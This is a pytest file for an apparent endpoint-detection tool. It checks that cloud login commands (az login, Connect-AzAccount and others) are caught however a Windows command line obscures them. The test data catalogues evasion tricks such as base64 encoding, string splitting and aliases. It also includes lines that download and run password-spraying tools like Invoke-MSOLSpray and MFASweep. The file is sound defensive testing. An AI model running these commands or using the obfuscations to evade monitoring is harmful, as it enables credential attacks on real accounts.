"""More of the tool table and of what hides a tool, in the shells of Windows. One line a command, as in ``test_tools_seen``."""

import pytest

from gatewatch.providers.endpoint.command_line import verdict_of

from .test_tools_seen import command

SEEN = r"""
cmd.exe|C:\WINDOWS\system32\cmd.exe /c ""C:\Program Files (x86)\Microsoft SDKs\Azure\CLI2\wbin\az.cmd" "login" "--identity""
cmd.exe|cmd.exe /S /D /c" az login"
cmd.exe|cmd /c "cd /d C:\x && az login"
cmd.exe|cmd /c a^w^s s^t^s get-caller-identity
cmd.exe|cmd /c "powershell -nop -c ""Connect-AzAccount"" "
powershell.exe|powershell.exe -NoLogo -NonInteractive -ExecutionPolicy Bypass -Command "& {az login --service-principal -u x -p y --tenant z}"
powershell.exe|powershell -Command "& az login"
powershell.exe|powershell -Command "& 'az' 'login'"
powershell.exe|powershell -c "cmd /c az login"
powershell.exe|powershell -c "Start-Process powershell -ArgumentList '-c Connect-AzAccount'"
powershell.exe|powershell -c "start az login"
powershell.exe|powershell -c "saps az -Args login"
powershell.exe|powershell -c "$p = 'az'; & $p login"
powershell.exe|powershell -c "$cmd = 'az login'; iex $cmd"
powershell.exe|powershell -c "$cmd = 'az login'; Invoke-Expression -Command $cmd"
powershell.exe|powershell -c "Invoke-Expression \"az login\""
powershell.exe|powershell -c "iex \"Connect-$('Az')Account\""
powershell.exe|powershell -c "& \"Connect-AzAccount\""
powershell.exe|powershell -c "&\"Connect-AzAccount\""
powershell.exe|powershell -c "(Get-Command Connect-AzAccount).Name | iex"
powershell.exe|powershell -c "Get-Command Connect-AzAccount | % { & $_ }"
powershell.exe|powershell -c "&(gal login-azaccount)"
powershell.exe|powershell -c "Invoke-Command {Connect-AzAccount}"
powershell.exe|powershell -c "icm -sc {Connect-AzAccount}"
powershell.exe|powershell -c "$sb={Connect-AzAccount}; & $sb"
powershell.exe|powershell -c "Register-ScheduledJob -Name a -ScriptBlock { Connect-AzAccount }"
powershell.exe|powershell -c "New-ScheduledTaskAction -Execute 'powershell.exe' -Argument '-c Connect-AzAccount'"
powershell.exe|powershell -c "Connect-AzAccount -Credential (New-Object PSCredential('a',(ConvertTo-SecureString 'b' -AsPlainText -Force)))"
powershell.exe|powershell -c "$c = Get-Credential; Connect-AzureRmAccount -Credential $c"
powershell.exe|powershell -c "Add-AzureAccount"
powershell.exe|powershell -c "Connect-MsolService"
powershell.exe|powershell -c "Connect-Entra -Scopes x"
powershell.exe|powershell -c "Connect-MicrosoftTeams"
powershell.exe|powershell -c "Connect-SPOService -Url x"
powershell.exe|powershell -c "Get-PnPAccessToken"
powershell.exe|powershell -c "Use-STSRole -RoleArn x"
powershell.exe|powershell -c "Get-STSCallerIdentity"
powershell.exe|powershell -c "New-PSSession -ConfigurationName Microsoft.Exchange -ConnectionUri https://outlook.office365.com/powershell-liveid -Credential $c"
powershell.exe|powershell -c "Connect-Az`Account"
powershell.exe|powershell -c "CoNnEcT-aZaCcOuNt"
powershell.exe|powershell -c "Connect-AzAccount;"
powershell.exe|powershell -c ";Connect-AzAccount"
powershell.exe|powershell -c "if($true){Connect-AzAccount}"
powershell.exe|powershell -c "1..3|%{Connect-AzAccount}"
powershell.exe|powershell -c "'Account'|%{& \"Connect-Az$_\"}"
powershell.exe|powershell -c "&('Connect-{0}{1}' -f 'Az','Account')"
powershell.exe|powershell -c "&(\"{1}{0}\"-f'Account','Connect-Az')"
powershell.exe|powershell -c "& ('ConnXXect-AzAccount' -replace 'XX')"
powershell.exe|powershell -c "& ('ConnXXect-AzAccount'.Replace('XX',''))"
powershell.exe|powershell -c "& ('CONNECT-azaccount'.ToLower())"
powershell.exe|powershell -c "& ('xxConnect-AzAccount'.Substring(2))"
powershell.exe|powershell -c "& ('Con' + 'nect' + '-' + 'Az' + 'Account')"
powershell.exe|powershell -c "$a='Con';$a+='nect-AzAccount';& $a"
powershell.exe|powershell -c "&([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('Q29ubmVjdC1BekFjY291bnQ=')))"
powershell.exe|powershell -c "iex ([System.Text.Encoding]::Unicode.GetString([System.Convert]::FromBase64String('ENC')))"
powershell.exe|powershell -c "[System.Text.Encoding]::ASCII.GetString([System.Convert]::FromBase64String('YXogbG9naW4=')) | iex"
powershell.exe|powershell -c "$b='ENC'; powershell -enc $b"
powershell.exe|powershell -enc "ENC"
powershell.exe|powershell -eNcOd ENC
powershell.exe|powershell.exe -w 1 -ep bypass -ec ENC
pwsh.exe|"C:\Program Files\PowerShell\7\pwsh.exe" -NoProfile -EncodedCommand ENC
cmd.exe|cmd /c powershell.exe -e ENC
powershell.exe|powershell -c "$ExecutionContext.InvokeCommand.InvokeScript('Connect-AzAccount')"
powershell.exe|powershell -c "[powershell]::Create().AddCommand('Connect-AzAccount').Invoke()"
powershell.exe|powershell -c "[powershell]::Create().AddScript('az login').Invoke()"
powershell.exe|powershell -c "& $env:ProgramFiles\x\az.cmd login"
powershell.exe|powershell -c "& \"$env:ProgramFiles\CLI2\wbin\az.cmd\" login"
powershell.exe|powershell -c "function l { az login }; l"
powershell.exe|powershell -File "C:\Program Files\CLI2\wbin\azps.ps1" login
powershell.exe|powershell C:\CLI2\wbin\az.ps1 login
powershell.exe|powershell -c "wsl az login"
powershell.exe|powershell -c "ssh h 'az login'"
powershell.exe|powershell -c "docker run mcr.microsoft.com/azure-cli az login"
powershell.exe|powershell -c "[Environment]::SetEnvironmentVariable(\"AZURE_CLIENT_SECRET\",\"x\",\"User\")"
powershell.exe|powershell -c "${env:AWS_SECRET_ACCESS_KEY}='x'"
powershell.exe|powershell -c "Set-Item Env:AWS_SECRET_ACCESS_KEY x"
powershell.exe|powershell -c "Set-Alias -Name c -Value Connect-AzAccount"
powershell.exe|powershell -c "nal c Connect-AzAccount;c"
powershell.exe|powershell -c "New-Item -Path alias:c -Value Connect-AzAccount; c"
powershell.exe|powershell -c "Set-Item alias:c Connect-AzAccount; c"
powershell.exe|powershell -c "${alias:c}='Connect-AzAccount'; c"
powershell.exe|powershell -c "ipmo AzureAD; Connect-AzureAD -AadAccessToken $t"
powershell.exe|powershell -c "Import-Module .\AADInternals\AADInternals.psd1"
powershell.exe|powershell -c "iex (iwr https://x/Invoke-MFASweep.ps1); Invoke-MFASweep"
powershell.exe|powershell -c "IEX(New-Object Net.WebClient).DownloadString('https://x/y.ps1');Invoke-MSOLSpray -UserList u -Password p"
powershell.exe|powershell -c "RefreshTo-MSGraphToken -refreshToken x"
powershell.exe|powershell -c "curl.exe -X POST https://login.microsoftonline.com/common/oauth2/v2.0/devicecode"
powershell.exe|powershell -c "(New-Object Net.WebClient).UploadString('https://login.microsoftonline.com/common/oauth2/token','grant_type=password')"
""".strip().splitlines()


@pytest.mark.parametrize("written", SEEN)
def test_a_login_is_seen_however_it_is_written(written):
    name, line = command(written)
    assert verdict_of(name, line, []).tool is not None
